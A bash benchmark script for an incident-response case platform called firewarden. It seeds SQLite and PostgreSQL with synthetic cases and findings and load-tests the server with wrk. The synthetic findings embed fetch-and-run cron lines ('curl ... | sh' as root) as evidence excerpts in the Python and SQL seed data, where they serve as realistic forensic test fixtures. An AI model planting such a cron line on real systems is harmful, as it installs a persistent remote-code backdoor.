#!/usr/bin/env bash
# The case platform under load (P6): 10,000 cases and 1,000,000 findings, 32 concurrent clients
# on loopback over HTTPS, measured by an independent load generator (wrk, Debian's package),
# on SQLite and on PostgreSQL in the same run; then a 100,000-finding triage pushed with the
# client, timed end to end. Prints the BENCHMARKS.md rows.
#
#   bench/server.sh                 # both databases (PostgreSQL from Debian's package)
#   DURATION=10s bench/server.sh    # shorter load runs
set -euo pipefail
cd "$(dirname "$0")/.."
export CARGO_TARGET_DIR="${CARGO_TARGET_DIR:-target}"
for tool in wrk sqlite3 psql python3; do
  command -v "$tool" >/dev/null || { echo "needs $tool (apt-get install wrk sqlite3 postgresql-client python3)" >&2; exit 2; }
done
cargo build --release -q -p firewarden
fw="$CARGO_TARGET_DIR/release/firewarden"
duration=${DURATION:-30s}
work=$(mktemp -d)
pids=()
pg_stop=()
cleanup() {
  for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; wait "$p" 2>/dev/null || true; done
  if [ ${#pg_stop[@]} -gt 0 ]; then "${pg_stop[@]}" >/dev/null 2>&1 || true; fi
  rm -rf "$work"
}
trap cleanup EXIT
echo "scratch: $work" >&2

# PostgreSQL of the bench's own, as in scripts/test.sh.
pgbin=$(ls -d /usr/lib/postgresql/*/bin 2>/dev/null | sort -V | tail -1)
as=()
mkdir -p "$work/pg"
if [ "$(id -u)" -eq 0 ]; then chmod 755 "$work"; chown postgres "$work/pg"; as=(runuser -u postgres --); fi
"${as[@]}" "$pgbin/initdb" -D "$work/pg/data" -A trust -U postgres >/dev/null
pgport=$((20000 + RANDOM % 30000))
"${as[@]}" "$pgbin/pg_ctl" -D "$work/pg/data" -l "$work/pg/log" -w \
  -o "-p $pgport -c listen_addresses=127.0.0.1 -k $work/pg -c max_connections=200" start >/dev/null
pg_stop=("${as[@]}" "$pgbin/pg_ctl" -D "$work/pg/data" -m fast -w stop)
pgurl="postgres://postgres@127.0.0.1:$pgport/postgres"

# The 100,000-finding triage result (the real report shape, findings varied; they name 1,000
# attacker addresses, as a large compromise does, not one each).
python3 - "$work/big.json" <<'PY'
import json, sys
findings = []
for i in range(100_000):
    findings.append({
        "id": f"linux.persistence.cron:{i:08x}", "check": "linux.persistence.cron",
        "title": f"Cron job downloads a script and pipes it into a shell ({i})",
        "severity": "high", "attack": ["T1053.003"],
        "explanation": "The job fetches a script from the network and runs it as root every 5 minutes.",
        "recommendation": "Remove the line (firewarden eradicate), then look for what the script left.",
        "evidence": [{"path": f"/etc/cron.d/job{i}", "line": 1,
                      "excerpt": f"*/5 * * * * root curl -fsSL http://10.0.{i % 1000 >> 8}.{i % 256}/x | sh",
                      "owner": "0(root)", "mode": "0644", "mtime": "2026-11-20T03:10:00Z"}],
    })
report = {"schema_version": 1, "tool": "firewarden 0.1.0",
          "source": {"kind": "root", "location": "/mnt/web01", "hostname": "web01"},
          "started": "2026-11-20T10:00:00Z", "finished": "2026-11-20T10:00:09Z",
          "storyline": {"verdict": "v", "attacker_ips": ["203.0.113.9"], "accounts": [], "persistence": []},
          "timeline": [], "findings": findings, "warnings": [], "checks": []}
json.dump(report, open(sys.argv[1], "w"))
PY

# start_server DIR [--database URL]: the banner gives the URL and pin.
start_server() {
  local dir=$1; shift
  "$fw" server --data "$dir" --listen 127.0.0.1:0 "$@" 2>"$dir.log" &
  pids+=($!)
  for _ in $(seq 200); do grep -q "^certificate pin:" "$dir.log" 2>/dev/null && break; sleep 0.05; done
  export FIREWARDEN_SERVER FIREWARDEN_PIN FIREWARDEN_TOKEN
  FIREWARDEN_SERVER=$(sed -n 's/^firewarden server listening on //p' "$dir.log")
  FIREWARDEN_PIN=$(sed -n 's/^certificate pin: //p' "$dir.log")
  FIREWARDEN_TOKEN=$(cat "$dir/bootstrap-token")
}

# seed SQL-RUNNER TIME-EXPR: 20 tenants' 10,000 cases, each with one asset, 100 findings and
# 10 timeline events, written straight into the database (the API is what is measured).
seed_sql() {
  local time_expr=$1
  cat <<SQL
INSERT INTO cases (id, tenant_id, title, kind, severity, stage, status, version, created, updated, tlp, pap)
  WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 10000),
    t(rn, id) AS (SELECT ROW_NUMBER() OVER (ORDER BY id) - 1, id FROM tenants)
  SELECT 'Cb' || i, t.id, 'web' || i || ' compromise',
         'intrusion', 'high', 'detection', 'open', 1, $time_expr, $time_expr, 'amber', 'amber'
  FROM n JOIN t ON t.rn = n.i % 20;
INSERT INTO assets (case_id, name, compromise, version, added)
  SELECT id, 'host-' || id, 'suspected', 1, created FROM cases WHERE id LIKE 'Cb%';
INSERT INTO findings (case_id, asset, finding_id, check_id, severity, title, body, first_import)
  WITH RECURSIVE k(j) AS (SELECT 1 UNION ALL SELECT j + 1 FROM k WHERE j < 100)
  SELECT c.id, 'host-' || c.id, 'linux.persistence.cron:' || c.id || '-' || k.j, 'linux.persistence.cron', 'high',
         'cron job ' || k.j,
         '{"id":"linux.persistence.cron:' || c.id || '-' || k.j || '","check":"linux.persistence.cron","title":"cron job ' || k.j || '","severity":"high","evidence":[{"path":"/etc/cron.d/job' || k.j || '","excerpt":"curl http://203.0.113.9/x | sh"}]}',
         c.created
  FROM cases c, k WHERE c.id LIKE 'Cb%';
INSERT INTO timeline (case_id, id, at, zone, source, kind, actor, text)
  WITH RECURSIVE k(j) AS (SELECT 1 UNION ALL SELECT j + 1 FROM k WHERE j < 10)
  SELECT c.id, 'e' || k.j, c.created, 'UTC', 'import:host:auth.log', 'login', 'bench', 'login ' || k.j
  FROM cases c, k WHERE c.id LIKE 'Cb%';
SQL
}

cat > "$work/page.lua" <<'LUA'
-- A case page: the case and what its page shows, for a random case of the 10,000.
local ids = {}
for line in io.lines(os.getenv("CASES")) do ids[#ids + 1] = line end
local token = os.getenv("TOKEN")
local parts = { "", "/findings?limit=100", "/stage", "/timeline?limit=100", "/assets", "/imports", "/notes", "/tasks" }
math.randomseed(os.time() + tonumber(tostring({}):sub(8), 16))
request = function()
  local id = ids[math.random(#ids)]
  local path = "/api/v1/cases/" .. id .. parts[math.random(#parts)]
  return wrk.format("GET", path, { ["Authorization"] = "Bearer " .. token })
end
LUA
cat > "$work/console.lua" <<'LUA'
-- The web console's case page (one request renders every section), for a random case.
local ids = {}
for line in io.lines(os.getenv("CASES")) do ids[#ids + 1] = line end
local token = os.getenv("TOKEN")
math.randomseed(os.time() + tonumber(tostring({}):sub(8), 16))
request = function()
  return wrk.format("GET", "/ui/cases/" .. ids[math.random(#ids)], { ["Authorization"] = "Bearer " .. token })
end
LUA
cat > "$work/list.lua" <<'LUA'
-- List pages: 50 cases at a time from a random point of what the caller sees, as the
-- console's "next page" asks for them (the cursor of the page before). PREFIX: the API's
-- list, or the console's page (50 cases with their SLA clocks).
local cursors = {}
for line in io.lines(os.getenv("CURSORS")) do cursors[#cursors + 1] = line end
local token = os.getenv("TOKEN")
local prefix = os.getenv("PREFIX")
math.randomseed(os.time() + tonumber(tostring({}):sub(8), 16))
request = function()
  local c = cursors[math.random(#cursors)]:gsub("|", "%%7C"):gsub(":", "%%3A")
  return wrk.format("GET", prefix .. c, { ["Authorization"] = "Bearer " .. token })
end
LUA

# load NAME SCRIPT TOKEN CURSORS [CONNECTIONS [LIST-PREFIX]]: wrk, 32 connections on 2 threads
# unless told; prints p50 p99 req/s errors.
load() {
  local script=$2 token=$3 cursors=$4 conns=${5:-32} prefix=${6:-/api/v1/cases?limit=50&before=} threads=2
  [ "$conns" -lt 2 ] && threads=1
  CASES="$work/cases.txt" TOKEN=$token CURSORS=$cursors PREFIX=$prefix wrk -t"$threads" -c"$conns" -d"$duration" --latency -s "$script" "$FIREWARDEN_SERVER" >"$work/wrk.txt" 2>&1
  local p50 p99 rps non2xx
  p50=$(awk '$1 == "50%" {print $2}' "$work/wrk.txt")
  p99=$(awk '$1 == "99%" {print $2}' "$work/wrk.txt")
  rps=$(awk '/^Requests\/sec/ {printf "%.0f", $2}' "$work/wrk.txt")
  non2xx=$(awk '/Non-2xx/ {print $NF}' "$work/wrk.txt")
  printf '| %s | %s | %s | **%s** | %s | %s |\n' "$backend" "$1" "$p50" "$p99" "$rps" "${non2xx:-0}"
}

rows=()
for backend in sqlite postgres; do
  dir="$work/$backend"
  if [ "$backend" = postgres ]; then
    start_server "$dir" --database "$pgurl"
    run_sql() { psql -q "$pgurl" -v ON_ERROR_STOP=1; }
    time_expr="to_char(to_timestamp(1790000000 + i * 60) AT TIME ZONE 'UTC', 'YYYY-MM-DD\"T\"HH24:MI:SS\"Z\"')"
  else
    start_server "$dir"
    run_sql() { sqlite3 -bail "$dir/cases.db"; }
    time_expr="strftime('%Y-%m-%dT%H:%M:%SZ', 1790000000 + i * 60, 'unixepoch')"
  fi
  for t in $(seq 20); do "$fw" tenant add "Customer $t" >/dev/null; done
  first_tenant=$("$fw" tenant list --format json | python3 -c 'import json,sys; print(sorted(t["id"] for t in json.load(sys.stdin))[0])')
  viewer=$("$fw" user add viewer --role customer-viewer --tenant "$first_tenant" --format json | python3 -c 'import json,sys; print(json.load(sys.stdin)["token"])')
  start=$(date +%s.%N)
  seed_sql "$time_expr" | run_sql
  seeded=$(python3 -c "import sys; print(f'{float(sys.argv[2]) - float(sys.argv[1]):.0f}')" "$start" "$(date +%s.%N)")
  echo "$backend: seeded 10,000 cases / 1,000,000 findings in ${seeded} s" >&2
  if [ "$backend" = postgres ]; then
    psql -qtA "$pgurl" -c "SELECT id FROM cases WHERE id LIKE 'Cb%'" >"$work/cases.txt"
    psql -qtA "$pgurl" -c "SELECT created || '|' || id FROM cases WHERE id LIKE 'Cb%'" >"$work/all.txt"
    psql -qtA "$pgurl" -c "SELECT created || '|' || id FROM cases WHERE tenant_id = '$first_tenant'" >"$work/one.txt"
    # Steady state, as a server that has run for a while: autovacuum is not mid-way through
    # the seeded tables while the load runs.
    psql -q "$pgurl" -c "VACUUM ANALYZE" >/dev/null
  else
    sqlite3 "$dir/cases.db" "SELECT id FROM cases WHERE id LIKE 'Cb%'; ANALYZE;" >"$work/cases.txt"
    sqlite3 "$dir/cases.db" "SELECT created || '|' || id FROM cases WHERE id LIKE 'Cb%'" >"$work/all.txt"
    sqlite3 "$dir/cases.db" "SELECT created || '|' || id FROM cases WHERE tenant_id = '$first_tenant'" >"$work/one.txt"
  fi
  rows+=("$(load "case page (case, findings, stage, timeline, assets, imports, notes, tasks), admin" "$work/page.lua" "$FIREWARDEN_TOKEN" -)")
  rows+=("$(load "case list, 50 a page from anywhere in 10,000, admin" "$work/list.lua" "$FIREWARDEN_TOKEN" "$work/all.txt")")
  rows+=("$(load "case list, 50 a page from anywhere in a tenant's 500, the customer's viewer" "$work/list.lua" "$viewer" "$work/one.txt")")
  # The console's pages: the whole HTML page, every section, rendered on the server.
  # Every customer has SLA targets: every open case on a list page has clocks to compute.
  for t in $("$fw" tenant list --format json | python3 -c 'import json,sys; print(" ".join(t["id"] for t in json.load(sys.stdin)))'); do
    "$fw" tenant set "$t" --sla standard >/dev/null
  done
  rows+=("$(load "console: case page (all sections), admin" "$work/console.lua" "$FIREWARDEN_TOKEN" -)")
  rows+=("$(load "console: case list with SLA clocks, 50 from anywhere in 10,000, admin" "$work/list.lua" "$FIREWARDEN_TOKEN" "$work/all.txt" 32 "/ui/cases?before=")")
  # One browser at a time: the time the server takes for one page.
  rows+=("$(load "console: case page, one client" "$work/console.lua" "$FIREWARDEN_TOKEN" - 1)")
  rows+=("$(load "console: case list with SLA clocks, one client" "$work/list.lua" "$FIREWARDEN_TOKEN" "$work/all.txt" 1 "/ui/cases?before=")")
  # The 100,000-finding import, end to end through the client (upload, parse, one transaction).
  case_id=$("$fw" case new --tenant "$first_tenant" --title "big import" --kind intrusion --severity high --format json | python3 -c 'import json,sys; print(json.load(sys.stdin)["id"])')
  t0=$(date +%s.%N)
  "$fw" case push --case "$case_id" "$work/big.json" >/dev/null
  t1=$(date +%s.%N)
  "$fw" case push --case "$case_id" "$work/big.json" >/dev/null
  t2=$(date +%s.%N)
  rows+=("$(python3 -c "import sys; a,b,c=map(float,sys.argv[2:]); print(f'| {sys.argv[1]} | import of a 100,000-finding triage (64 MB) with \`case push\` | {b-a:.2f} s | | again (all known) {c-b:.2f} s | |')" "$backend" "$t0" "$t1" "$t2")")
  # The summary report of that case once it also holds 1,000 evidence items, each with its
  # custody ledger (two signed events), end to end with `case report` (made, signed, kept,
  # downloaded).
  if [ "$backend" = postgres ]; then pad="lpad(i::text, 64, '0')"; else pad="printf('%064d', i)"; fi
  cat <<SQL | run_sql
INSERT INTO evidence (id, case_id, asset, sha256, size, signer, acquired, received, by_user, blob, custody_events)
  WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000)
  SELECT 'Eb' || i, '$case_id', 'host-' || (i % 50), $pad, 1048576 + i, '$(printf 'ab%.0s' $(seq 32))',
         '2026-11-20T10:00:00Z', '2026-11-20T11:00:00Z', 'bench', 'bench/blob', 2 FROM n;
INSERT INTO custody (evidence_id, seq, kind, at, line)
  SELECT id, s.seq, s.kind, acquired,
         s.seq || ' {"seq":' || s.seq || ',"utc":"2026-11-20T10:00:00Z","action":{"event":"' || s.kind || '","by":"collector of web01","reason":"triage collection"},"evidence_id":"' || id || '","bundle":"web01.fwb","bundle_sha256":"' || sha256 || '","bundle_size":1048576,"hash_verified":true,"tool":"firewarden 0.1.0","signer":"' || signer || '","prev":"","signature":"00"}'
  FROM evidence, (SELECT 1 AS seq, 'acquire' AS kind UNION ALL SELECT 2, 'receive') s WHERE id LIKE 'Eb%';
SQL
  t0=$(date +%s.%N)
  "$fw" case report "$case_id" -o "$work/report-$backend.html" >/dev/null
  t1=$(date +%s.%N)
  rows+=("$(python3 -c "import sys; a,b=map(float,sys.argv[2:]); print(f'| {sys.argv[1]} | summary report (HTML, signed, kept) of that case with 1,000 evidence items and their custody, \`case report\` end to end | {b-a:.2f} s | | | |')" "$backend" "$t0" "$t1")")
  kill "${pids[-1]}"; wait "${pids[-1]}" 2>/dev/null || true
  unset 'pids[-1]'
done
echo "| database | load (32 connections, $duration, wrk over HTTPS) | p50 | p99 | req/s | non-2xx |"
echo "|---|---|---|---|---|---|"
printf '%s\n' "${rows[@]}"
